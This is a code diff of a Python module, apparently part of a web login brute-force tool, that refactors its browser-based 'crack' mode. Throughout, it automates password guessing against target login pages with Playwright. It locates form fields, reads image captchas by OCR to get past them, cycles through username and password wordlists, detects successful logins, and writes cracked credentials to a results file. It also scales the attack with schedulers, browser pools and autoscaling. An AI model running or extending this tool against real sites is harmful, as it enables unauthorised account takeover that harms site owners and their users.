@@ -1,13 +1,59 @@
-from playwright.sync_api import sync_playwright
+from playwright.sync_api import TimeoutError as PlaywrightTimeoutError
 import config
-from utils import logger, load_file, get_ocr_result
-import queue
-from concurrent.futures import ThreadPoolExecutor
+from utils import logger, load_file, get_ocr_result, attempt_sampler
+from profile_cache import profiles
+from checkpoint import checkpoints
+from candidates import CandidateSource, load_wordlist, close_wordlists
+from scheduler import WorkStealingScheduler, CrackRun
+from multiproc import ProcessCrackRun
+from browser_pool import get_pool, get_async_pool
+from resource_router import router
+from page_analyzer import IMG_CAPTCHA_KEYWORDS
+from autoscaler import Autoscaler
+from fingerprint import fingerprint_page
+from rate_control import record as record_rate
+import form_reset
+import login_flow
+from login_flow import run_flow
 import os
-from datetime import datetime
+import time
+import threading
 
 STOP_FLAG = False
 
+_outcome_stats = {}
+_outcome_lock = threading.Lock()
+
+OUTCOME_MARK_JS = """
+(errorSelectors) => {
+    performance.setResourceTimingBufferSize(2000);
+    const visible = (sel) => {
+        const el = document.querySelector(sel);
+        return !!(el && el.offsetParent !== null && el.textContent.trim());
+    };
+    return {
+        href: location.href,
+        t0: performance.now(),
+        errorSelectors: errorSelectors.filter(sel => !visible(sel))
+    };
+}
+"""
+
+OUTCOME_WAIT_JS = """
+(mark) => {
+    if (location.href !== mark.href) return 'navigation';
+    if (!document.querySelector("input[type='password']")) return 'password_gone';
+    for (const sel of mark.errorSelectors) {
+        const el = document.querySelector(sel);
+        if (el && el.offsetParent !== null && el.textContent.trim()) return 'error_element';
+    }
+    const answered = performance.getEntriesByType('resource').some(e =>
+        (e.initiatorType === 'xmlhttprequest' || e.initiatorType === 'fetch') &&
+        e.startTime >= mark.t0 && e.responseEnd > 0);
+    return answered ? 'xhr' : false;
+}
+"""
+
 def safe_fill(element, value):
     try:
         element.wait_for(state="visible", timeout=2000)
@@ -29,213 +75,313 @@ def get_captcha_code(page, captcha_img):
         logger.warning(f"Get captcha failed: {e}")
         return ""
 
-def find_login_elements(page):
-    import time
-    user_input = None
-    pass_input = None
-    login_btn = None
-    for _ in range(3):
-        for selector in ["input[type='text']", "input[type='email']", "input[name*='user']", "input[id*='user']"]:
-            if page.locator(selector).count() > 0:
-                user_input = page.locator(selector).first
-                break
-        if page.locator("input[type='password']").count() > 0:
-            pass_input = page.locator("input[type='password']").first
-        for selector in ["button[type='submit']", "input[type='submit']", "button:has-text('Login')", "button:has-text('登录')"]:
-            if page.locator(selector).count() > 0:
-                login_btn = page.locator(selector).first
-                break
-        if user_input and pass_input and login_btn:
-            return user_input, pass_input, login_btn
-        time.sleep(1)
-    return None, None, None
-
-def crack_worker(url_queue, usernames, passwords, results):
-    global STOP_FLAG
-    if STOP_FLAG:
-        return
-    logger.info(f"[Worker Start] Launching browser (Headless={config.HEADLESS})...")
-    with sync_playwright() as p:
-        try:
-            browser = p.chromium.launch(headless=config.HEADLESS)
-            while not STOP_FLAG:
-                try:
-                    url = url_queue.get_nowait()
-                except queue.Empty:
-                    break
-                logger.info(f"[Processing] Start: {url}")
-                context = browser.new_context(ignore_https_errors=True)
-                page = context.new_page()
-                page.set_default_timeout(30000)
-                try:
-                    _process_single_url(page, context, url, usernames, passwords, results)
-                except Exception as e:
-                    logger.error(f"[{url}] Processing error: {e}")
-                finally:
-                    context.close()
-                    url_queue.task_done()
-        except Exception as e:
-            logger.error(f"[Worker Error] Browser process error: {e}")
-        finally:
-            try:
-                browser.close()
-            except:
-                pass
-            logger.info("[Worker End] Browser closed")
-
-def _process_single_url(page, context, url, usernames, passwords, results):
-    global STOP_FLAG
+USER_SELECTORS = ["input[type='text']", "input[type='email']", "input[name*='user']", "input[id*='user']"]
+PASS_SELECTORS = ["input[type='password']"]
+SUBMIT_SELECTORS = ["button[type='submit']", "input[type='submit']", "button:has-text('Login')", "button:has-text('登录')"]
+CAPTCHA_INPUT_SELECTORS = [
+    "input[name*='captcha']", "input[id*='captcha']", "input[class*='captcha']",
+    "input[name*='code']", "input[id*='code']", "input[class*='code']",
+    "input[name*='verify']", "input[id*='verify']", "input[class*='verify']",
+    "input[name*='check']", "input[id*='check']",
+    "input[name*='yzm']", "input[id*='yzm']",
+    "input[placeholder*='验证码']", "input[placeholder*='code']"
+]
+
+DISCOVER_JS = """
+(args) => {
+    const query = (sel) => {
+        const m = sel.match(/^(.*):has-text\\((['"])(.*)\\2\\)$/);
+        if (!m) return document.querySelector(sel);
+        const text = m[3].toLowerCase();
+        return Array.from(document.querySelectorAll(m[1] || '*')).find(el => el.textContent.toLowerCase().includes(text)) || null;
+    };
+    const visible = (el) => !!(el.offsetParent !== null || el.getClientRects().length);
+    const rank = (selectors, preferred) => {
+        const ordered = preferred ? [preferred].concat(selectors.filter(s => s !== preferred)) : selectors;
+        const shown = [], hidden = [];
+        for (const sel of ordered) {
+            let el = null;
+            try { el = query(sel); } catch (e) {}
+            if (el) (visible(el) ? shown : hidden).push(sel);
+        }
+        return shown.concat(hidden);
+    };
+    const user = rank(args.user, args.preferred.user);
+    const pass = rank(args.pass, args.preferred.pass);
+    const submit = rank(args.submit, args.preferred.submit);
+    if (!user.length || !pass.length || !submit.length) return false;
+    const stable = (img, index) => {
+        const src = (img.getAttribute('src') || '').split('?')[0];
+        const candidates = [
+            img.id && `img#${CSS.escape(img.id)}`,
+            img.getAttribute('name') && `img[name="${CSS.escape(img.getAttribute('name'))}"]`,
+            src && !src.startsWith('data:') && `img[src^="${CSS.escape(src)}"]`,
+            img.getAttribute('alt') && `img[alt="${CSS.escape(img.getAttribute('alt'))}"]`
+        ];
+        for (const sel of candidates) {
+            if (sel && document.querySelectorAll(sel).length === 1) return sel;
+        }
+        return `img >> nth=${index}`;
+    };
+    let captchaImg = null;
+    const imgs = document.querySelectorAll('img');
+    for (let i = 0; i < imgs.length && captchaImg === null; i++) {
+        const img = imgs[i];
+        const attrs = [img.getAttribute('src'), img.id, img.getAttribute('class'), img.getAttribute('alt')].map(v => (v || '').toLowerCase());
+        if (args.captchaKeywords.some(k => attrs.some(v => v.includes(k)))) captchaImg = stable(img, i);
+    }
+    const captchaInput = captchaImg === null ? [] : rank(args.captchaInput, args.preferred.captcha_input);
+    return {user, pass, submit, captchaImg, captchaInput};
+}
+"""
+
+def cached_selectors(url):
+    cached = profiles.get_fresh(url) if url else None
+    return (cached or {}).get("selectors") or {}
+
+def discovery_args(cached):
+    return {
+        "user": USER_SELECTORS,
+        "pass": PASS_SELECTORS,
+        "submit": SUBMIT_SELECTORS,
+        "captchaInput": CAPTCHA_INPUT_SELECTORS,
+        "captchaKeywords": IMG_CAPTCHA_KEYWORDS,
+        "preferred": {k: cached.get(k) for k in ("user", "pass", "submit", "captcha_input")}
+    }
+
+def discover_elements(page, url=None):
+    cached = cached_selectors(url)
     try:
-        if STOP_FLAG:
-            return
-        page.goto(url)
-        page.wait_for_load_state("networkidle")
-    except Exception as e:
-        logger.warning(f"Page load timeout or failed {url}: {e}")
+        handle = page.wait_for_function(DISCOVER_JS, arg=discovery_args(cached), timeout=config.DISCOVERY_TIMEOUT_MS, polling=config.DISCOVERY_POLL_MS)
+        found = handle.json_value()
+    except PlaywrightTimeoutError:
+        return None
+    return resolve_selectors(found, cached, url)
+
+def resolve_selectors(found, cached, url):
+    selectors = {
+        "user": found["user"][0],
+        "pass": found["pass"][0],
+        "submit": found["submit"][0],
+        "captcha_img": found["captchaImg"],
+        "captcha_input": found["captchaInput"][0] if found["captchaInput"] else None
+    }
+    if selectors["captcha_img"]:
+        logger.info(f"[{url}] Captcha detected: image={selectors['captcha_img']}, input={selectors['captcha_input']}")
+    if url and any(cached.get(k) != v for k, v in selectors.items()):
+        profiles.merge(url, "selectors", **selectors)
+    return selectors
+
+def mark_login_outcome(page):
+    try:
+        return page.evaluate(OUTCOME_MARK_JS, config.ERROR_ELEMENT_SELECTORS)
+    except Exception:
+        return None
+
+def wait_for_login_outcome(page, url, mark):
+    start = time.perf_counter()
+    signal = "timeout"
+    try:
+        if mark is None:
+            page.wait_for_timeout(config.OUTCOME_TIMEOUT_MS)
+        else:
+            handle = page.wait_for_function(OUTCOME_WAIT_JS, arg=mark, timeout=config.OUTCOME_TIMEOUT_MS, polling=config.OUTCOME_POLL_MS)
+            signal = handle.json_value()
+    except PlaywrightTimeoutError:
+        pass
+    except Exception:
+        signal = "navigation"
+    remaining = config.OUTCOME_TIMEOUT_MS - (time.perf_counter() - start) * 1000
+    try:
+        if signal == "navigation" and remaining > 0:
+            page.wait_for_load_state("domcontentloaded", timeout=remaining)
+        elif signal in ("xhr", "error_element"):
+            page.wait_for_timeout(config.OUTCOME_SETTLE_MS)
+    except Exception:
+        pass
+    record_outcome(url, signal, (time.perf_counter() - start) * 1000)
+    return signal
+
+def record_outcome(url, signal, elapsed_ms):
+    with _outcome_lock:
+        stats = _outcome_stats.setdefault(url, {"attempts": 0, "total_ms": 0.0, "max_ms": 0.0, "signals": {}})
+        stats["attempts"] += 1
+        stats["total_ms"] += elapsed_ms
+        stats["max_ms"] = max(stats["max_ms"], elapsed_ms)
+        stats["signals"][signal] = stats["signals"].get(signal, 0) + 1
+
+def reset_outcome_stats():
+    with _outcome_lock:
+        _outcome_stats.clear()
+
+def get_outcome_stats():
+    with _outcome_lock:
+        return {
+            url: {
+                "attempts": stats["attempts"],
+                "avg_ms": round(stats["total_ms"] / stats["attempts"], 1),
+                "max_ms": round(stats["max_ms"], 1),
+                "signals": dict(stats["signals"])
+            }
+            for url, stats in _outcome_stats.items()
+        }
+
+class PageSteps:
+    """Sync Playwright calls behind the steps yielded by ``login_flow``."""
+
+    TimeoutError = PlaywrightTimeoutError
+
+    def __init__(self, page, context):
+        self.page = page
+        self.context = context
+
+    def goto(self, url, wait_until="load"):
+        self.page.goto(url, wait_until=wait_until)
+
+    def wait_load(self, state):
+        self.page.wait_for_load_state(state)
+
+    def wait(self, ms):
+        self.page.wait_for_timeout(ms)
+
+    def discover(self, url):
+        return discover_elements(self.page, url)
+
+    def form_ready(self, elements, timeout):
+        user_input, pass_input, login_btn = elements
+        try:
+            return user_input.is_editable(timeout=timeout) and pass_input.is_editable(timeout=timeout) and login_btn.is_enabled(timeout=timeout)
+        except Exception:
+            return False
+
+    def clear_cookies(self):
+        self.context.clear_cookies()
+
+    def count(self, selector):
+        return self.page.locator(selector).count()
+
+    def content(self):
+        return self.page.content()
+
+    def fingerprint(self):
+        return fingerprint_page(self.page)
+
+    def fill(self, element, value):
+        return safe_fill(element, value)
+
+    def captcha(self, captcha_img):
+        return get_captcha_code(self.page, captcha_img)
+
+    def click(self, element, timeout):
+        element.click(timeout=timeout)
+
+    def dispatch_click(self, element):
+        element.dispatch_event("click")
+
+    def mark_outcome(self):
+        return mark_login_outcome(self.page)
+
+    def wait_outcome(self, url, mark):
+        return wait_for_login_outcome(self.page, url, mark)
+
+    def acquire(self, controller):
+        return controller.acquire()
+
+    def blocking(self, fn, *args):
+        return fn(*args)
+
+    def lock(self, target):
+        target.lock.acquire()
+
+    def unlock(self, target):
+        target.lock.release()
+
+    def trace_start(self):
+        self.context.tracing.start(screenshots=True, snapshots=True)
+
+    def trace_stop(self):
+        self.context.tracing.stop()
+
+    def trace_chunk(self, title):
+        self.context.tracing.start_chunk(title=title)
+
+    def trace_chunk_end(self, path):
+        self.context.tracing.stop_chunk(path=path)
+
+def crack_chunk(page, context, task, usernames, passwords, results, run_key=None):
+    steps = PageSteps(page, context)
+    run_flow(login_flow.crack_chunk(steps, task, usernames, passwords, results, run_key, lambda: STOP_FLAG), steps)
+
+def _finish_target(target, run_key):
+    attempt_sampler.forget(target.url)
+    if "controller" in target.data:
+        record_rate(target.data["controller"])
+    if "reset_policy" in target.data:
+        form_reset.record(target.data["reset_policy"])
+    if STOP_FLAG or target.stopped():
         return
-    user_input, pass_input, login_btn = find_login_elements(page)
-    if not user_input or not pass_input or not login_btn:
-        logger.warning(f"Cannot locate login elements, skipping: {url}")
+    if target.data.get("incomplete") and not target.found:
+        logger.warning(f"[{target.url}] Some candidates were not tried, target left unfinished")
         return
-    captcha_img = None
-    captcha_input = None
-    try:
-        images = page.locator("img").all()
-        for img in images:
-            src = img.get_attribute("src") or ""
-            id_ = img.get_attribute("id") or ""
-            class_ = img.get_attribute("class") or ""
-            alt = img.get_attribute("alt") or ""
-            keywords = ["captcha", "code", "verify", "check", "random", "yzm"]
-            if any(k in src.lower() for k in keywords) or \
-               any(k in id_.lower() for k in keywords) or \
-               any(k in class_.lower() for k in keywords) or \
-               any(k in alt.lower() for k in keywords):
-                captcha_img = img
-                logger.info(f"[{url}] Found captcha image: src={src[:50]}...")
-                break
-    except Exception as e:
-        logger.warning(f"[{url}] Error finding captcha: {e}")
-    if captcha_img:
-        logger.info(f"[{url}] Captcha detected, trying to locate input...")
-        input_selectors = [
-            "input[name*='captcha']", "input[id*='captcha']", "input[class*='captcha']",
-            "input[name*='code']", "input[id*='code']", "input[class*='code']",
-            "input[name*='verify']", "input[id*='verify']", "input[class*='verify']",
-            "input[name*='check']", "input[id*='check']",
-            "input[name*='yzm']", "input[id*='yzm']",
-            "input[placeholder*='验证码']", "input[placeholder*='code']"
-        ]
-        for selector in input_selectors:
-            if page.locator(selector).count() > 0:
-                captcha_input = page.locator(selector).first
-                logger.info(f"[{url}] Found captcha input: {selector}")
-                break
-    found = False
-    for user in usernames:
-        if found and config.STOP_ON_SUCCESS:
-            break
-        if STOP_FLAG:
-            break
-        for i, pwd in enumerate(passwords):
-            if STOP_FLAG:
-                break
-            try:
-                logger.info(f"[{url}] Trying: {user}:{pwd} ({i+1}/{len(passwords)})")
-                is_login_page = "login" in page.url.lower() or page.locator("input[type='password']").count() > 0
-                if not is_login_page:
-                    logger.debug(f"[{url}] Not on login page, trying to reset...")
-                    page.goto(url)
-                    page.wait_for_load_state("networkidle")
-                    user_input, pass_input, login_btn = find_login_elements(page)
-                if not user_input or not pass_input or not login_btn:
-                    user_input, pass_input, login_btn = find_login_elements(page)
-                if not user_input or not pass_input:
-                    logger.error(f"[{url}] Cannot locate inputs, skipping this password")
-                    continue
-                if not safe_fill(user_input, user):
-                    logger.warning(f"[{url}] Input not available, trying to refresh...")
-                    page.goto(url)
-                    page.wait_for_load_state("networkidle")
-                    user_input, pass_input, login_btn = find_login_elements(page)
-                    if not user_input or not safe_fill(user_input, user):
-                        continue
-                if not safe_fill(pass_input, pwd):
-                    page.goto(url)
-                    page.wait_for_load_state("networkidle")
-                    user_input, pass_input, login_btn = find_login_elements(page)
-                    safe_fill(user_input, user)
-                    if not safe_fill(pass_input, pwd):
-                        continue
-                if captcha_img and captcha_input:
-                    code = get_captcha_code(page, captcha_img)
-                    if code:
-                        logger.info(f"[{url}] Fill captcha: {code}")
-                        safe_fill(captcha_input, code)
-                    else:
-                        logger.warning(f"[{url}] OCR result empty, try refresh...")
-                        try:
-                            captcha_img.click(timeout=1000)
-                            page.wait_for_timeout(500)
-                            code = get_captcha_code(page, captcha_img)
-                            if code:
-                                logger.info(f"[{url}] After refresh fill captcha: {code}")
-                                safe_fill(captcha_input, code)
-                        except:
-                            pass
-                try:
-                    login_btn.click(timeout=3000)
-                except:
-                    page.evaluate("arguments[0].click();", login_btn.element_handle())
-                page.wait_for_timeout(3000)
-                current_url = page.url
-                has_password_field = page.locator("input[type='password']").count() > 0
-                page_content = page.content().lower()
-                has_error = any(k.lower() in page_content for k in config.ERROR_KEYWORDS) and len(page_content) < 5000
-                has_success_keyword = any(k.lower() in page_content for k in config.SUCCESS_KEYWORDS)
-                is_url_changed = current_url != url and "login" not in current_url.lower()
-                if (has_success_keyword and not has_error) or (is_url_changed and not has_password_field and not has_error):
-                    if "error" in current_url.lower() or "fail" in current_url.lower():
-                        logger.info(f"[{url}] URL contains error keyword, judged as failed")
-                    else:
-                        result = {
-                            "url": url,
-                            "username": user,
-                            "password": pwd,
-                            "timestamp": datetime.now().isoformat()
-                        }
-                        results.append(result)
-                        logger.info(f"[SUCCESS] Simulated login success: {url} -> {user}:{pwd}")
-                        with open(config.RESULTS_FILE, "a", encoding="utf-8") as f:
-                            f.write(f"{url} | {user}:{pwd}\n")
-                        if config.STOP_ON_SUCCESS:
-                            found = True
-                            break
-                elif has_error:
-                    logger.info(f"[{url}] Page contains error keyword, judged as failed")
-                if not is_url_changed or has_error:
-                    logger.debug(f"[{url}] Login failed, reset state...")
-                    try:
-                        context.clear_cookies()
-                        page.goto(url)
-                        page.wait_for_load_state("networkidle")
-                        user_input, pass_input, login_btn = find_login_elements(page)
-                    except Exception as e:
-                        logger.error(f"[{url}] Reset failed: {e}")
-                        user_input = None
-                    if not user_input:
-                        continue
-            except Exception as e:
-                logger.error(f"[{url}] Crack process error: {e}")
-                try:
-                    page.goto(url)
-                    page.wait_for_load_state("networkidle")
-                except:
-                    pass
+    if run_key:
+        checkpoints.finish_target(run_key, target.url, "found" if target.found else "exhausted")
+
+def start_complex_crack(usernames=None, passwords=None, token=None, results=None):
+    if config.COMPLEX_ENGINE == 'async':
+        logger.info(f"Starting complex mode crack (AsyncEngine browsers={config.ASYNC_BROWSERS}, max_pages={config.ASYNC_MAX_PAGES}, Headless={config.HEADLESS})...")
+    else:
+        logger.info(f"Starting complex mode crack (BrowserPool={config.THREADS}, Headless={config.HEADLESS})...")
+    owned = []
+    if usernames is None:
+        usernames = load_wordlist(config.USERNAME_FILE, config.DEFAULT_USERNAMES)
+        owned.append(usernames)
+    if passwords is None:
+        passwords = load_wordlist(config.PASSWORD_FILE, config.DEFAULT_PASSWORDS)
+        owned.append(passwords)
+    run_key = checkpoints.run_key(usernames, passwords) if config.RESUME else None
+    should_stop = lambda: STOP_FLAG or (token is not None and token.is_set())
+    if config.EXECUTION_MODE == 'process':
+        return ProcessCrackRun("complex", usernames, passwords, run_key, should_stop, _finish_target, token=token, results=results, finalize=lambda: close_wordlists(*owned))
+    results = results if results is not None else []
+    if config.COMPLEX_ENGINE == 'async':
+        import cracker_complex_async
+        pool = get_async_pool()
+        workers = pool.max_pages
+        execute = lambda worker_id, task: pool.submit(cracker_complex_async.crack_chunk, task, usernames, passwords, results, run_key).result()
+    else:
+        pool = get_pool()
+        workers = pool.size
+        execute = lambda worker_id, task: pool.submit(crack_chunk, task, usernames, passwords, results, run_key).result()
+    scheduler = WorkStealingScheduler(
+        workers,
+        execute,
+        should_stop=should_stop,
+        on_target_done=lambda target: _finish_target(target, run_key),
+        name="complex",
+        token=token
+    )
+    def finalize():
+        logger.info(f"Complex mode scheduler stats: {scheduler.stats}")
+        checkpoints.flush()
+        logger.info(f"[Browser Pool] Stats: {pool.stats()}")
+        if config.RESOURCE_ROUTING:
+            stats = router.stats()
+            logger.info(f"[Resource Router] Saved {stats['requests_saved']}/{stats['requests']} requests, {stats['bytes_saved']} bytes (blocked={stats['blocked']}, cache_hits={stats['cache_hits']})")
+        for url, stats in get_outcome_stats().items():
+            logger.info(f"[{url}] Login outcome latency: avg={stats['avg_ms']}ms max={stats['max_ms']}ms signals={stats['signals']}")
+        profiles.flush()
+        close_wordlists(*owned)
+    scheduler.start()
+    scaler = None
+    if config.AUTOSCALE:
+        def apply(n):
+            scheduler.set_active(n)
+            pool.resize(n)
+        scaler = Autoscaler("complex", apply, config.THREADS, max_workers=workers).start()
+    return CrackRun(scheduler, results, run_key, CandidateSource(usernames, passwords), finalize, scaler)
 
 def run_complex_crack(targets=None, usernames=None, passwords=None):
     global STOP_FLAG
-    logger.info(f"Starting complex mode crack (ThreadPool={config.THREADS}, Headless={config.HEADLESS})...")
     if targets is None:
         if config.FORCE_COMPLEX_MODE:
             targets = load_file(config.URL_LIST_FILE)
@@ -246,26 +392,16 @@ def run_complex_crack(targets=None, usernames=None, passwords=None):
     if not targets:
         logger.warning("No target URLs available, skipping.")
         return []
-    if usernames is None:
-        usernames = load_file(config.USERNAME_FILE) or config.DEFAULT_USERNAMES
-    if passwords is None:
-        passwords = load_file(config.PASSWORD_FILE) or config.DEFAULT_PASSWORDS
-    url_queue = queue.Queue()
+    run = start_complex_crack(usernames, passwords)
     for url in targets:
-        url_queue.put(url)
-    results = []
-    executor = ThreadPoolExecutor(max_workers=config.THREADS)
-    futures = []
+        run.submit(url)
     try:
-        for _ in range(config.THREADS):
-            futures.append(executor.submit(crack_worker, url_queue, usernames, passwords, results))
-        executor.shutdown(wait=True)
+        return run.finish()
     except KeyboardInterrupt:
         logger.warning("\n!!! User interrupted (Ctrl+C) !!!")
         STOP_FLAG = True
-        executor.shutdown(wait=False)
         logger.warning("Stop signal sent.")
-    return results
+        return run.results
 
 if __name__ == '__main__':
     run_complex_crack()